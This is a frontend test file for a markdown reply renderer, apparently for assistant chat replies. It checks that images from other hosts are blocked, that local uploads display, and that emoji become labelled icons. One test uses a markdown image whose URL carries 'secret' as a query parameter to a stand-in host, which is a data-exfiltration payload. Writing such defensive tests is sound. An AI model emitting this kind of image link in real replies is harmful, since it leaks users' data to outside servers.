import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { InlineMarkdown, MarkdownReply } from './markdown-reply';

describe('MarkdownReply', () => {
  it('never loads an image from another host, so a reply cannot send text elsewhere', () => {
    const { container } = render(
      <MarkdownReply text="Here: ![x](https://elsewhere.example/p.png?d=secret) and more" />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('[image: x]')).toBeInTheDocument();
  });

  it('shows images of our own uploads', () => {
    render(<MarkdownReply text="![your photo](/api/uploads/abc123)" />);
    expect(screen.getByRole('img', { name: 'your photo' })).toHaveAttribute(
      'src',
      '/api/uploads/abc123',
    );
  });
});

describe('emoji in replies', () => {
  it('draws callout emoji as labelled icons, so no reply shows empty boxes without an emoji font', () => {
    const { container } = render(
      <MarkdownReply
        text={'> ⚠️ **Safety first:** breaker off.\n\n> 🚨 **Do this now:** leave.'}
      />,
    );
    expect(screen.getByRole('img', { name: 'Warning' }).tagName.toLowerCase()).toBe('svg');
    expect(screen.getByRole('img', { name: 'Urgent' })).toBeInTheDocument();
    expect(container.textContent).not.toMatch(/\p{Extended_Pictographic}/u);
    expect(container.querySelector('blockquote strong')).toHaveTextContent('Safety first:');
  });

  it('leaves code as written', () => {
    const { container } = render(<MarkdownReply text={'`⚡` and ⚡'} />);
    expect(container.querySelector('code')).toHaveTextContent('⚡');
    expect(screen.getAllByRole('img', { name: 'Electricity' })).toHaveLength(1);
  });

  it('does the same in one-line steps', () => {
    render(<InlineMarkdown text="🔥 **Hot:** let it cool" />);
    expect(screen.getByRole('img', { name: 'Fire' })).toBeInTheDocument();
    expect(screen.getByText('Hot:')).toBeInTheDocument();
  });
});
